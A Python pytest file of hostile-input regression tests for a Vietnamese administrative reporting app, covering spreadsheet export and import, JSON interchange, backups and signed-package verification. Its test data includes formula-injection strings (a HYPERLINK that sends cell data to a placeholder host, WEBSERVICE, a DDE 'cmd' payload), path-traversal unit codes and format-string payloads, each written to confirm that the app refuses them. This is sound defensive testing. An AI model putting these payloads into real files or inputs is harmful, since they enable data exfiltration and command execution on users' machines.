"""What a hostile test found (issue 17), each reproduced: it failed before the fix, and passes after.

Nothing received is accepted that the receiving office could not defend, nothing already
accepted is lost, and the clerk is told why in Vietnamese.
"""

from __future__ import annotations

import json
import multiprocessing
import os
import stat
import zipfile

import pytest
from conftest import catalog_of, new_report
from pathlib import Path
from openpyxl import load_workbook

from desktop.exchange.interchange import export_report, import_report, read_document
from desktop.exchange.xlsx import import_xlsx, write_xlsx
from desktop.foundation.messages import CchcError
from desktop.report.ops import enter_cells
from desktop.store.db import Store
from test_export_xlsx import FORM_5B, _fill, _report
from test_signing import forms  # noqa: F401  (the fixture: a commune set and its district set)


def _import_in_a_process(db: str, forms_folder: str, report: int, workbook: str, outcome) -> None:
    from desktop.registry import load_catalog

    try:
        with Store.open(db, daily_backup=False) as store:
            import_xlsx(store, load_catalog(Path(forms_folder)), report, Path(workbook))
        outcome.put("ok")
    except CchcError as error:
        outcome.put(error.code)


HOSTILE_TEXTS = ['=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', '=WEBSERVICE("http://x.invalid")',
                 "=cmd|' /C calc'!A0", "=1+1"]


# --- spreadsheets ------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_text_that_looks_like_a_formula_is_written_as_text_and_reads_back(tmp_path, store, text):
    catalog, report = _report(tmp_path, store)
    _fill(store, catalog, report)
    enter_cells(store, catalog, report, "5B", [("unit:H1.X1", "ghi_chu", text)])
    store.reports.update(report, subject=text)
    path = write_xlsx(store, catalog, report, tmp_path / "bc.xlsx")
    book = load_workbook(path)
    live = [(s.title, c.coordinate) for s in book.worksheets for row in s.iter_rows() for c in row
            if c.data_type == "f" and not str(c.value).startswith(("=SUM(", "=D", "=C", "=E"))]
    assert live == []  # only the form's own sums and identities are formulas
    cell = next(c for row in book["Biểu mẫu 5B"].iter_rows() for c in row if c.value == text)
    assert cell.data_type == "s"
    before = store.cells.get(report)
    assert import_xlsx(store, catalog, report, path) == []  # the app's own export reads back unchanged
    assert store.cells.get(report) == before


def test_a_cached_value_that_disagrees_with_its_formula_is_not_believed(tmp_path, store):
    """Our own formula "=D12+E12", cached as 5000 by whatever saved the file last: the import
    computes it from D12 and E12 instead of taking the 5000."""
    catalog, report = _report(tmp_path, store)
    _fill(store, catalog, report)
    path = write_xlsx(store, catalog, report, tmp_path / "bc.xlsx")
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info.filename) for info in archive.infolist()}
    sheet = next(name for name, content in members.items() if b"<f>D12+E12</f><v></v>" in content)
    members[sheet] = members[sheet].replace(b"<f>D12+E12</f><v></v>", b"<f>D12+E12</f><v>5000</v>")
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    assert load_workbook(path, data_only=True)["Biểu mẫu 5B"]["C12"].value == 5000  # what the file claims
    assert import_xlsx(store, catalog, report, path) == []
    assert store.cells.get(report)["5B"]["unit:H1.X1"]["tong"] == "1562"


@pytest.mark.parametrize("formula", ["=1+1", "='[khac.xlsx]Biểu mẫu 5B'!C12", '=WEBSERVICE("http://x.invalid")'])
def test_a_formula_the_form_does_not_have_is_refused_and_nothing_changes(tmp_path, store, formula):
    catalog, report = _report(tmp_path, store)
    _fill(store, catalog, report)
    path = write_xlsx(store, catalog, report, tmp_path / "bc.xlsx")
    book = load_workbook(path)
    book["Biểu mẫu 5B"]["E12"] = formula
    book.save(path)
    before = store.cells.get(report)
    with pytest.raises(CchcError) as refused:
        import_xlsx(store, catalog, report, path)
    assert refused.value.code == "XLSX009" and "E12" in str(refused.value)
    assert store.cells.get(report) == before


# --- interchange documents ----------------------------------------------------------------


def _document(tmp_path, store):
    catalog = catalog_of(tmp_path, {"5b.yaml": FORM_5B})
    report = new_report(store, communes=2)
    _fill(store, catalog, report)
    return catalog, export_report(store, catalog, report)


@pytest.mark.parametrize("status", ["da_ky", "da_nop"])
def test_a_document_cannot_make_a_report_signed_without_its_signature(tmp_path, store, status):
    catalog, document = _document(tmp_path, store)
    document["report"]["status"] = status
    with Store.open(tmp_path / "khac.db") as other:
        with pytest.raises(CchcError) as refused:
            import_report(other, catalog, document)
        assert refused.value.code == "JSON009" and other.reports.all() == []


@pytest.mark.parametrize("where, code", [
    (("unit", "code"), "../../PWNED"), (("unit", "code"), "C:\\x"), (("unit", "code"), "a/b"),
    (("unit", "code"), ""), (("child_units", 0, "code"), "../x"),
])
def test_unit_codes_that_could_become_paths_are_refused(tmp_path, store, where, code):
    catalog, document = _document(tmp_path, store)
    target = document
    for key in where[:-1]:
        target = target[key]
    target[where[-1]] = code
    with Store.open(tmp_path / "khac.db") as other:
        with pytest.raises(CchcError):
            import_report(other, catalog, document)
        assert other.reports.all() == [] and other.units.all() == []


def test_a_unit_cannot_be_its_own_parent_or_child(tmp_path, store):
    catalog, document = _document(tmp_path, store)
    own = dict(document["unit"], parent=None)
    for change in (lambda d: d["unit"].update(parent=dict(own)),
                   lambda d: d["child_units"].append({k: own[k] for k in ("code", "name", "level")})):
        changed = json.loads(json.dumps(document))
        change(changed)
        with Store.open(tmp_path / "khac.db") as other:
            with pytest.raises(CchcError) as refused:
                import_report(other, catalog, changed)
            assert refused.value.code == "JSON002" and other.units.all() == []
    with pytest.raises(CchcError) as refused:
        store.units.add("X9", "Xã chín", "xa", "X9")
    assert refused.value.code == "STORE018"


@pytest.mark.parametrize("field, value", [("subject", "a" * 10_000_000), ("subject", "a" * 2_001),
                                          ("doc_number", "1" * 101), ("place", "x" * 201)])
def test_text_fields_no_report_needs_that_long_are_refused(tmp_path, store, field, value):
    catalog, document = _document(tmp_path, store)
    document["report"][field] = value
    with Store.open(tmp_path / "khac.db") as other:
        with pytest.raises(CchcError) as refused:
            import_report(other, catalog, document)
        assert refused.value.code == "JSON002" and field in str(refused.value)


def test_a_cell_text_no_report_needs_that_long_is_refused(tmp_path, store):
    catalog, document = _document(tmp_path, store)
    document["forms"]["5B"]["cells"]["unit:H1.X1"]["ghi_chu"] = "x" * 100_001
    with Store.open(tmp_path / "khac.db") as other:
        with pytest.raises(CchcError) as refused:
            import_report(other, catalog, document)
        assert refused.value.code == "JSON005"


@pytest.mark.parametrize("where, value", [
    (("report", "version"), 2 ** 70), (("period", "year"), 10 ** 25), (("period", "year"), -5),
    (("form_set", "version"), 2 ** 64), (("period", "number"), 2 ** 63), (("period", "year_from"), 10 ** 30),
])
def test_numbers_too_large_for_their_field_get_a_message(tmp_path, store, where, value):
    catalog, document = _document(tmp_path, store)
    document[where[0]][where[1]] = value
    with Store.open(tmp_path / "khac.db") as other:
        with pytest.raises(CchcError) as refused:
            import_report(other, catalog, document)
        assert refused.value.code in ("JSON002", "JSON004") and other.reports.all() == []


def test_a_document_with_a_byte_order_mark_reads(tmp_path, store):
    catalog, document = _document(tmp_path, store)
    path = tmp_path / "bc.json"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps(document, ensure_ascii=False).encode("utf-8"))
    assert read_document(path)["format"] == "cchc-report"


# --- the store -------------------------------------------------------------------------------


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX's; Windows keeps the profile's ACL")
def test_keys_databases_and_backups_are_readable_by_their_owner_only(tmp_path):
    from conftest import cli

    with Store.open(tmp_path / "data.db", user="kiemthu") as store:
        store.units.add("H1", "Huyện Thử", "huyen")
        backup = store.backups.make("thu")
    (tmp_path / "mk.txt").write_text("mat-khau-rat-dai\n", encoding="utf-8")
    assert cli("--db", str(tmp_path / "data.db"), "new-certificate", "--unit", "H1", "--passphrase-file",
               str(tmp_path / "mk.txt"), "-o", str(tmp_path / "h1.p12"))[0] == 0
    for path in (tmp_path / "data.db", tmp_path / "data.db-wal", backup, tmp_path / "h1.p12"):
        if path.exists():
            assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path.name
    assert (tmp_path / "h1.p12").exists() and backup.exists()


def test_a_scratch_store_in_memory_leaves_no_backup_folder_behind(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with Store.open(":memory:", daily_backup=False) as scratch:
        scratch.units.add("H1", "Huyện Thử", "huyen")
        assert scratch.backups.make("truoc-nhap") is None
    assert list(tmp_path.iterdir()) == []


def test_restore_never_replaces_a_healthy_database_unasked_nor_deletes_its_wal(tmp_path, capsys):
    from conftest import cli
    from desktop.store.backups import restore_latest

    path = tmp_path / "data.db"
    store = Store.open(path, user="kiemthu")
    store.units.add("H1", "Huyện Thử", "huyen")
    store.backups.make("thu")
    store.units.add("H2", "Huyện Sau", "huyen")  # committed after the backup, still in the -wal
    assert (tmp_path / "data.db-wal").stat().st_size > 0
    with pytest.raises(CchcError) as refused:
        restore_latest(path)
    assert refused.value.code == "STORE019" and (tmp_path / "data.db-wal").exists()
    code, _ = cli("--db", str(path), "restore")
    assert code == 2 and "--force" in capsys.readouterr().err
    store.close()
    with Store.open(path, daily_backup=False) as reopened:
        assert [u.code for u in reopened.units.all()] == ["H1", "H2"]
        reopened.conn.execute("PRAGMA wal_checkpoint(PASSIVE)")
    store = Store.open(path, daily_backup=False)
    store.units.add("H3", "Huyện Ba", "huyen")  # in the -wal when the clerk forces the restore
    restore_latest(path, force=True)
    store.close()
    [aside] = [p for p in tmp_path.iterdir() if p.name.startswith("data.db.thay-")
               and not p.name.endswith(("-wal", "-shm"))]
    with Store.open(aside, daily_backup=False, read_only=True) as kept:
        assert [u.code for u in kept.units.all()] == ["H1", "H2", "H3"]  # nothing committed was lost
    with Store.open(path, daily_backup=False) as restored:
        assert [u.code for u in restored.units.all()] == ["H1"]


def _workbook_edited_while_figures_were_typed(tmp_path, store, change_book=None):
    """A report's workbook edited in Excel (and ``change_book`` done to it) while the clerk typed
    a figure in the app: (catalog, report, workbook, the figures as they are)."""
    catalog, report = _report(tmp_path, store)
    _fill(store, catalog, report)
    path = write_xlsx(store, catalog, report, tmp_path / "bc.xlsx")
    book = load_workbook(path)
    if change_book:
        change_book(book)
    book["Biểu mẫu 5B"]["E12"] = 1600
    book.save(path)
    enter_cells(store, catalog, report, "5B", [("I", "ky_truoc", "41")])  # typed in the app meanwhile
    return catalog, report, path, store.cells.get(report)


def test_a_workbook_made_before_the_figures_changed_is_not_imported_over_them(tmp_path, store):
    catalog, report, path, before = _workbook_edited_while_figures_were_typed(tmp_path, store)
    with pytest.raises(CchcError) as refused:
        import_xlsx(store, catalog, report, path)
    assert refused.value.code == "XLSX010" and store.cells.get(report) == before


@pytest.mark.parametrize("fingerprint", [None, "", "khong-phai"])
def test_a_workbook_without_its_fingerprint_is_not_imported_over_the_figures(tmp_path, store, fingerprint):
    """Issue 27: blanking ``made_from`` in the hidden sheet bypassed the stale-workbook check."""
    def blank_the_fingerprint(book):
        meta = next(sheet for sheet in book.worksheets if sheet.sheet_state != "visible")
        next(r for r in meta.iter_rows() if r[0].value == "made_from")[1].value = fingerprint

    catalog, report, path, before = _workbook_edited_while_figures_were_typed(tmp_path, store, blank_the_fingerprint)
    with pytest.raises(CchcError) as refused:
        import_xlsx(store, catalog, report, path)
    assert refused.value.code == "XLSX011" and store.cells.get(report) == before


def test_two_imports_of_the_same_report_at_once_never_mix(tmp_path):
    """Two clerks import two edited copies of one workbook at the same moment: one goes in whole,
    the other is refused; no total ends up unequal to its parts."""
    catalog = catalog_of(tmp_path, {"5b.yaml": FORM_5B})
    db = tmp_path / "data.db"
    with Store.open(db, daily_backup=False) as store:
        report = new_report(store, communes=2)
        _fill(store, catalog, report)
        first = write_xlsx(store, catalog, report, tmp_path / "a.xlsx")
    second = tmp_path / "b.xlsx"
    second.write_bytes(first.read_bytes())
    for path, value in ((first, 1600), (second, 1700)):
        book = load_workbook(path)
        book["Biểu mẫu 5B"]["E12"] = value
        book.save(path)
    context = multiprocessing.get_context("spawn")
    outcome = context.Queue()
    workers = [context.Process(target=_import_in_a_process,
                               args=(str(db), str(tmp_path / "forms"), report, str(path), outcome))
               for path in (first, second)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(120)
    results = sorted(outcome.get(timeout=5) for _ in workers)
    assert results == ["XLSX010", "ok"]
    with Store.open(db, daily_backup=False) as store:
        cells = store.cells.get(report)["5B"]
    moi = int(cells["unit:H1.X1"]["moi"])
    assert moi in (1600, 1700) and int(cells["unit:H1.X1"]["tong"]) == moi
    assert int(cells["II"]["moi"]) == moi and int(cells["tong_cong"]["tong"]) == 100 + 10 + moi


def test_a_consolidation_stopped_midway_keeps_no_submission_without_its_figures(tmp_path, monkeypatch, forms):
    from test_signing import PASS, commune_report, enrol_signer

    from desktop.submission import consolidate as consolidation
    from desktop.submission.identity import create_self_signed, load_p12
    from desktop.submission.package import sign_report
    from desktop.submission.workflow import mark_checked

    catalog = forms  # test_signing's commune and district sets
    packages = tmp_path / "goi"
    with Store.open(tmp_path / "xa.db") as commune, load_p12(create_self_signed("H1.X1", "Xã", PASS), PASS) as me:
        report = commune_report(commune, catalog)
        mark_checked(commune, catalog, report, acknowledge_warnings=True)
        sign_report(commune, catalog, report, me, packages)
    with Store.open(tmp_path / "huyen.db") as store:
        district = new_report(store, "huyen", communes=1)
        enrol_signer(store, "H1.X1", me)

        def power_cut(*args, **kwargs):
            raise OSError("mất điện")

        monkeypatch.setattr(consolidation, "write_cells", power_cut)
        with pytest.raises(OSError):
            consolidation.consolidate(store, catalog, district, [packages])
        assert store.submissions.all() == [] and store.cells.get(district) == {}
        monkeypatch.undo()
        result = consolidation.consolidate(store, catalog, district, [packages])
        assert [r.status for r in result.received] == ["accepted"] and len(store.submissions.all()) == 1
        assert store.cells.get(district)["TH"]["unit:H1.X1"]["tong"] == "10"


def test_a_package_name_is_always_one_plain_file_name():
    from desktop.submission.package import package_filename

    name = package_filename({"unit": {"code": "../../PWNED"}, "period": {"year": 2020, "type": "nam"},
                             "report_version": 1})
    assert "/" not in name and "\\\\" not in name and not name.startswith(".") and name.endswith(".cchc")


def test_the_longest_texts_a_report_takes_still_print(tmp_path, store):
    """A note of 4.000 characters in one cell made a table row taller than a page, and the whole
    PDF export stopped (LayoutError); the longest subject prints too."""
    import io

    import pypdf

    from desktop.exchange.pdf import write_pdf

    catalog, report = _report(tmp_path, store)
    _fill(store, catalog, report)
    store.reports.update(report, subject="Báo cáo tình hình " * 110)  # under the 2.000-character limit
    enter_cells(store, catalog, report, "5B", [("unit:H1.X1", "ghi_chu", "ghi chú dài " * 333)])  # ~4.000
    path = write_pdf(store, catalog, report, tmp_path / "bc.pdf")
    text = " ".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(path.read_bytes())).pages)
    assert "[…]" in text and "Xã 2" in text


@pytest.mark.parametrize("workers", [1, 2])
def test_consolidating_many_large_junk_files_reads_one_at_a_time(tmp_path, workers, forms):
    """Twelve junk files of 250 MB once took 5 GB: every file was read before the first was checked.
    Here twelve of 16 MB: the memory a consolidation holds stays near one or two files', not twelve."""
    import tracemalloc


    from desktop.submission.consolidate import consolidate

    catalog = forms  # test_signing's commune and district sets
    folder = tmp_path / "goi"
    folder.mkdir()
    size = 16 * 1024 * 1024
    for n in range(12):
        (folder / f"rac-{n:02d}.cchc").write_bytes(bytes([n]) * size)
    with Store.open(tmp_path / "huyen.db") as store:
        district = new_report(store, "huyen", communes=1)
        tracemalloc.start()
        result = consolidate(store, catalog, district, [folder], workers=workers)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert [r.status for r in result.received] == ["rejected"] * 12
    assert peak < 5 * size, f"{peak // 1024 // 1024} MB held"


# --- time ----------------------------------------------------------------------------------


@pytest.fixture
def commune_package(tmp_path, forms):
    """A commune's signed package, with what made it: (catalog, commune store, identity)."""
    from test_signing import PASS, commune_report

    from desktop.submission.identity import create_self_signed, load_p12

    catalog = forms  # test_signing's commune and district sets
    store = Store.open(tmp_path / "xa.db")
    identity = load_p12(create_self_signed("H1.X1", "Ủy ban nhân dân xã Thử", PASS), PASS)
    with identity:
        yield catalog, store, identity, commune_report
    store.close()


def _sign(catalog, store, identity, make, tmp_path, **kwargs) -> bytes:
    from desktop.submission.package import sign_report
    from desktop.submission.workflow import mark_checked

    report = make(store, catalog, **kwargs)
    mark_checked(store, catalog, report, acknowledge_warnings=True)
    return Path(sign_report(store, catalog, report, identity, tmp_path / "goi").filename).read_bytes()


def test_a_signing_time_in_the_receivers_future_is_refused(tmp_path, commune_package):
    import datetime as dt

    from desktop.submission.verify import verify_bytes

    catalog, store, identity, make = commune_package
    package = _sign(catalog, store, identity, make, tmp_path)
    assert verify_bytes(package, "goi.cchc", catalog).valid
    yesterday = dt.datetime.now().astimezone() - dt.timedelta(days=1)  # the receiver's clock
    verdict = verify_bytes(package, "goi.cchc", catalog, now=yesterday)
    assert not verdict.valid and "sau đồng hồ của máy nhận" in verdict.message


def test_a_report_signed_before_its_period_began_is_refused(tmp_path, commune_package):
    """A package for 2030 signed in 2026: a backdated (or forward-dated) report."""
    from desktop.foundation.periods import Period
    from desktop.submission.verify import verify_bytes

    catalog, store, identity, make = commune_package
    report = make(store, catalog)
    store.conn.execute("UPDATE reports SET year = 2030 WHERE id = ?", (report,))  # a report of 2030
    assert store.reports.get(report).period == Period("nam", 2030)
    from desktop.submission.package import sign_report
    from desktop.submission.workflow import mark_checked

    mark_checked(store, catalog, report, acknowledge_warnings=True)
    package = Path(sign_report(store, catalog, report, identity, tmp_path / "goi").filename).read_bytes()
    verdict = verify_bytes(package, "goi.cchc", catalog)
    assert not verdict.valid and "trước khi kỳ báo cáo bắt đầu (15/12/2029)" in verdict.message


def test_the_pdf_and_the_manifest_must_say_the_same_signing_time(tmp_path, commune_package, monkeypatch):
    """A manifest signed an hour before its PDF: the two signatures were not made together."""
    import datetime as dt
    import types

    from desktop.submission import package as packaging
    from desktop.submission.verify import verify_bytes

    class EarlierClock(dt.datetime):
        @classmethod
        def now(cls, tz=None):
            return dt.datetime.now(tz) - dt.timedelta(hours=1)

    monkeypatch.setattr(packaging, "dt", types.SimpleNamespace(datetime=EarlierClock, timezone=dt.timezone,
                                                               timedelta=dt.timedelta, date=dt.date))
    from test_signing import PASS

    from desktop.submission.identity import create_self_signed, load_p12

    catalog, store, _, make = commune_package
    older = create_self_signed("H1.X1", "Ủy ban nhân dân xã Thử", PASS,
                               now=dt.datetime.now().astimezone() - dt.timedelta(hours=3))
    with load_p12(older, PASS) as identity:
        package = _sign(catalog, store, identity, make, tmp_path)
    verdict = verify_bytes(package, "goi.cchc", catalog)
    assert not verdict.valid and "Thời điểm ký trên PDF" in verdict.message


# --- the parts of a package --------------------------------------------------------------------


@pytest.mark.parametrize("part, message", [("pdf", "bản PDF"), ("xlsx", "bảng tính"), ("version", "phiên bản")])
def test_the_parts_of_a_package_must_have_been_made_together(tmp_path, commune_package, monkeypatch, part, message):
    """A PDF showing one figure beside a data.json saying another verified as valid: now each
    rendered member names, inside its signed bytes, the data.json it was made from."""
    from desktop.submission import package as packaging
    from desktop.submission.verify import verify_bytes

    catalog, store, identity, make = commune_package
    if part == "pdf":
        real = packaging.render_pdf
        monkeypatch.setattr(packaging, "render_pdf", lambda data, marks, bound_to, **made: real(data, marks, "0" * 64, **made))
    elif part == "xlsx":
        real = packaging.render_xlsx
        monkeypatch.setattr(packaging, "render_xlsx", lambda data, bound_to: real(data, "f" * 64))
    else:
        real = packaging.export_report

        def another_version(*args):
            document = real(*args)
            document["report"]["version"] = 7
            return document

        monkeypatch.setattr(packaging, "export_report", another_version)
    package = _sign(catalog, store, identity, make, tmp_path)
    verdict = verify_bytes(package, "goi.cchc", catalog)
    assert not verdict.valid and "không được tạo cùng nhau" in verdict.message and message in verdict.message
    monkeypatch.undo()


def test_a_certificate_expired_since_signing_is_reported_and_the_package_stays_valid(tmp_path, commune_package):
    """openssl and pdfsig call such a certificate expired (they check today); verify checks it at the
    signing time, and now says both."""
    import datetime as dt

    from desktop.submission.verify import verify_bytes

    catalog, store, identity, make = commune_package
    package = _sign(catalog, store, identity, make, tmp_path)
    assert verify_bytes(package, "goi.cchc", catalog).signer["in_force_at_receipt"]
    in_ten_years = dt.datetime.now().astimezone() + dt.timedelta(days=3660)
    verdict = verify_bytes(package, "goi.cchc", catalog, now=in_ten_years)
    assert verdict.valid and verdict.signer["in_force_when_signed"] and not verdict.signer["in_force_at_receipt"]


def test_a_restored_database_is_readable_by_its_owner_only(tmp_path):
    """Issue 27: the database ``restore`` wrote was 0644 where every other one is 0600."""
    from desktop.store.backups import restore_latest

    with Store.open(tmp_path / "data.db", user="kiemthu") as store:
        store.units.add("H1", "Huyện Thử", "huyen")
        store.backups.make("thu")
    os.chmod(tmp_path / "data.db", 0o644)
    restore_latest(tmp_path / "data.db", force=True)
    assert stat.S_IMODE((tmp_path / "data.db").stat().st_mode) & 0o077 == 0


@pytest.mark.parametrize("message", ["{row.__class__}", "{actual:400000000}", "{expected!r}", "{0}", "{ten}",
                                     "{row[0]}", "{"])
def test_a_rule_message_takes_only_its_documented_placeholders(tmp_path, message):
    """Issue 27: a width of 400.000.000 or an attribute lookup in a rule's message."""
    from conftest import catalog_of

    catalog = catalog_of(tmp_path, {"a.yaml": f"""
        code: A
        printed_code: Biểu A
        title: THỬ
        columns:
          - {{id: stt, label: STT, kind: row_code}}
          - {{id: ten, label: Tên, kind: row_label}}
          - {{id: so, label: Số}}
        rows:
          - {{id: r1, label: Một}}
        rules:
          - id: it
            check: so >= 0
            message: "Sai {message}"
        """})
    assert "A" not in catalog.get("test", 1).forms
    assert any(p.code == "FORM023" for p in catalog.problems), [p.text for p in catalog.problems]
